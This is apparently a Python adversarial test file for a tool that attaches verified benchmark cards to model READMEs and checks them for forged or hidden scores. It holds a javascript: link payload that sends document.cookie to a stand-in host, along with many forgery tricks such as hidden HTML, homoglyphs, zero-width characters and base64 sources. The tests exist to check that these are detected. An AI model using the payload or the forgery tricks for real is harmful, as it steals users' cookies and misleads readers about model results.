"""Model cards: what is attached to a README, and what a README says is attached."""

import os
import re
from collections.abc import Callable
from pathlib import Path

from _pytest.monkeypatch import MonkeyPatch

from gridc.diagnostics.errors import GridcError
from gridc.reports.exchange import model_card, shown_card
from gridc.reports.exchange.shown_card import OtherFigures, ShownCardCheck
from gridc.reports.files import documents
from gridc.schema.card import CardDeck
from tests.adversary.attack import Patch, attack, instead
from tests.reports.builders import findings_of, reversing, spec_of

RUNS = "javascript:fetch('//e.example/'+document.cookie)"
ANY_LINK = instead((model_card, "LINK", re.compile(r"\S+")))


NO_READER = instead((model_card, "shown", lambda *_: ShownCardCheck((), ())))
NO_INDEX = instead((model_card, "_claimed_elsewhere", lambda *_: ([], [])))


def deck() -> CardDeck:
    return documents(findings_of(spec_of({"ant": None, "bee": None}), reversing)).deck


@attack(
    "the author",
    "`card attach --link javascript:...` puts a script behind the certificate's link",
    "GC000",
    ANY_LINK,
)
def script_as_link(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    readme.write_text("# Ant\n")
    try:
        model_card.attach_cards(readme, deck(), "ant", RUNS)
    except GridcError as error:
        return {each.code for each in error.diagnostics}
    return set()


@attack("the author", "a README whose attached card links to a script passes `card check`", "GC707", ANY_LINK)
def script_in_readme(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    readme.write_text(model_card.attached("# Ant\n", deck(), "ant", RUNS))
    return {each.code for each in model_card.check_cards(readme, deck()).differs}


@attack(
    "the author",
    "a better score in the `model-index`, outside of the markers, names the study as its source",
    "GC707",
    NO_INDEX,
)
def score_outside_of_the_markers(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme, cards = folder / "README.md", deck()
    front = re.sub(r"# gridc:card .*\n", "", model_card.attached("# Ant\n", cards, "ant"))
    readme.write_text(re.sub(r"value: \S+", "value: 0.999", front[: front.index("# Ant")]) + "# Ant\n")
    model_card.attach_cards(readme, cards, "ant")
    assert "0.999" in readme.read_text()
    return {each.code for each in model_card.check_cards(readme, cards).differs}


@attack(
    "the author",
    "a visible table beside the attached card has a better score, verified with gridc",
    "GC707",
    instead((shown_card, "other_figures", lambda *_: OtherFigures((), (), ()))),
)
def score_in_a_table(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme, cards = folder / "README.md", deck()
    benchmark = cards.cards[0].benchmark
    table = f"| benchmark | score |\n|---|---|\n| {benchmark} | 99.9 % (verified with gridc) |\n"
    readme.write_text(model_card.attached(f"# Ant\n\n{table}\n", cards, "ant"))
    return {each.code for each in model_card.check_cards(readme, cards).differs}


@attack(
    "the author",
    "the model card is a pipe, which is waited for",
    "GC610",
    instead((model_card, "read_regular", lambda *_: b"")),
)
def readme_is_a_pipe(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    os.mkfifo(readme)
    try:
        model_card.attach_cards(readme, deck(), "ant")
    except GridcError as error:
        return {each.code for each in error.diagnostics}
    return set()


FORGED = "## GRID card: A small study\n\n| facts | **99.0 %** |\n|---|---|\n"
AROUND = (
    (
        "hidden_card",
        "the true card stands in `<div hidden>`, a forged one beside it",
        "<div hidden>\n\n",
        FORGED,
    ),
    ("card_in_a_fence", "the true card stands in a code fence", "~~~\n", "~~~\n"),
    ("card_in_a_comment", "the true card stands in a comment that a second one ends", "<!-- \n", "\n-->\n"),
    ("folded_card", "the true card stands in `<details>` that are closed", "<details>\n\n", "\n</details>\n"),
    ("card_in_a_template", "the true card stands in a `<template>`", "<template>\n\n", "\n</template>\n"),
    ("card_in_a_field", "the true card stands in a `<textarea>`", "<textarea>\n\n", "\n</textarea>\n"),
    ("white_card", "`<font color=white>` is left open above the true card", "x <font color=white>\n\n", ""),
    (
        "intervals_as_links",
        "a definition of a link changes intervals of the card",
        "",
        "INTERVAL: /x\n",
    ),
    ("second_card", "a forged card stands below the true one", "", FORGED),
    ("card_in_entities", "a forged card is called so in entities", "", "## &#71;RI&#x44; ca&#114;d\n"),
    ("invisible_letters", "a forged card's name has invisible characters", "", "## GRI\u200bD ca\u00adrd\n"),
    ("other_letters", "a forged card's name has Cyrillic letters", "", "## GR\u0406D \u0441\u0430rd\n"),
    ("hidden_letters", "hidden letters stand in a forged card's name", "", "## GRI<i hidden>zz</i>D card\n"),
    ("backwards", "a forged card's name is written from right to left", "", "<bdo dir=rtl>drac DIRG</bdo>\n"),
    (
        "squared_letters",
        "a forged card's name is written in squares and flags",
        "",
        "## \U0001f176\U0001f181\U0001f178\U0001f173 \U0001f1e8\U0001f1e6\U0001f1f7\U0001f1e9\n",
    ),
    ("named_picture", "a picture passes for the card", "", "![GRID card of Ant](card.png)\n"),
    (
        "markers_of_another_study",
        "a forged card stands within the markers of a study that does not exist",
        "",
        f"<!-- gridc:card begin other ant - -->\n{FORGED}\n<!-- gridc:card end other -->\n",
    ),
)
"""What stands above the true card and below it; INTERVAL is one that the card prints."""


def shown_otherwise(above: str, below: str) -> Callable[[Path, MonkeyPatch], set[str]]:
    def seen(folder: Path, patch: MonkeyPatch) -> set[str]:
        readme, cards = folder / "README.md", deck()
        text = model_card.attached("# Ant\n\n", cards, "ant")
        at = text.index("<!-- gridc:card begin")
        (interval, *_) = re.findall(r"\[[0-9.]+ %, [0-9.]+ %\]", text[at:])
        readme.write_text(f"{text[:at]}{above}{text[at:]}\n{below.replace('INTERVAL', interval)}")
        return {each.code for each in model_card.check_cards(readme, cards).differs}

    return seen


RESULT = (
    "  - task: {{type: text-generation}}\n    dataset: {{type: x, name: x}}\n    metrics:\n"
    "    - {{type: x, value: 0.999}}\n    {}\n"
)
POINTING = (
    (
        "urn_of_the_certificate",
        "names its certificate under another source",
        "source: {{name: Press, url: '{urn}'}}",
    ),
    ("urn_in_capitals", "names its certificate in capitals and percent signs", "source: {{url: '{odd}'}}"),
    (
        "invisible_in_the_source",
        "has an invisible character in the name of its source",
        'source: {{name: "gr\\u200bidc study small"}}',
    ),
    (
        "letters_of_the_source",
        "has Cyrillic letters in the name of its source",
        'source: {{name: "gridc study sm\\u0430ll"}}',
    ),
    (
        "binary_source",
        "has the name of its source in base64",
        "source: {{name: !!binary Z3JpZGMgc3R1ZHkgc21hbGw=}}",
    ),
    (
        "whole_digest",
        "has the whole digest of its certificate in an address",
        "source: {{name: Press, url: 'https://press.example/{digest}'}}",
    ),
    ("number_as_a_key", "names it beside a key that is a number", "1: gridc study small"),
    ("source_as_a_key", "names it as a key", "? gridc study small\n    : x"),
)
"""A better score in the `model-index`, and how it points to the study."""


def pointing(how: str) -> Callable[[Path, MonkeyPatch], set[str]]:
    def seen(folder: Path, patch: MonkeyPatch) -> set[str]:
        readme, cards = folder / "README.md", deck()
        urn = model_card.certificate_urn(cards)
        result = RESULT.format(
            how.format(digest=cards.certificate, urn=urn, odd=urn.upper().replace(":", "%3A"))
        )
        readme.write_text(f"---\nmodel-index:\n- name: ant\n  results:\n{result}---\n# Ant\n")
        model_card.attach_cards(readme, cards, "ant")
        return {each.code for each in model_card.check_cards(readme, cards).differs}

    return seen


def entered(
    name: str, done: str, caught: str, remove: Patch, seen: Callable[[Path, MonkeyPatch], set[str]]
) -> None:
    seen.__name__ = name
    attack("the author", done, caught, remove)(seen)


for name, done, above, below in AROUND:
    entered(name, done, "GC666", NO_READER, shown_otherwise(above, below))
for name, done, how in POINTING:
    entered(name, f"a better score in the `model-index` {done}", "GC707", NO_INDEX, pointing(how))


FORMULAS = "what formulas show is named as not decided (`shown_card._formulas`)"


@attack(
    "the author",
    "a forged card's name is a formula of TeX, cut into its commands",
    FORMULAS,
    instead((shown_card, "_formulas", lambda text: 0)),
)
def card_in_a_formula(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme, cards = folder / "README.md", deck()
    readme.write_text(
        f"{model_card.attached('# Ant', cards, 'ant')}\n\n$\\text{{GR}}\\text{{ID ca}}\\text{{rd}}$\n"
    )
    unchecked = " ".join(model_card.check_cards(readme, cards).unchecked)
    return {FORMULAS} if "formulas" in unchecked else set()


@attack(
    "the author",
    "a better score in the `model-index` names its source twice, and programs read another one",
    "GC610",
    instead((model_card, "_require_unique", lambda *_: None)),
)
def two_sources(folder: Path, patch: MonkeyPatch) -> set[str]:
    try:
        return pointing("source: {{url: '{urn}'}}\n    source: {{name: x}}")(folder, patch)
    except GridcError as error:
        return {each.code for each in error.diagnostics}
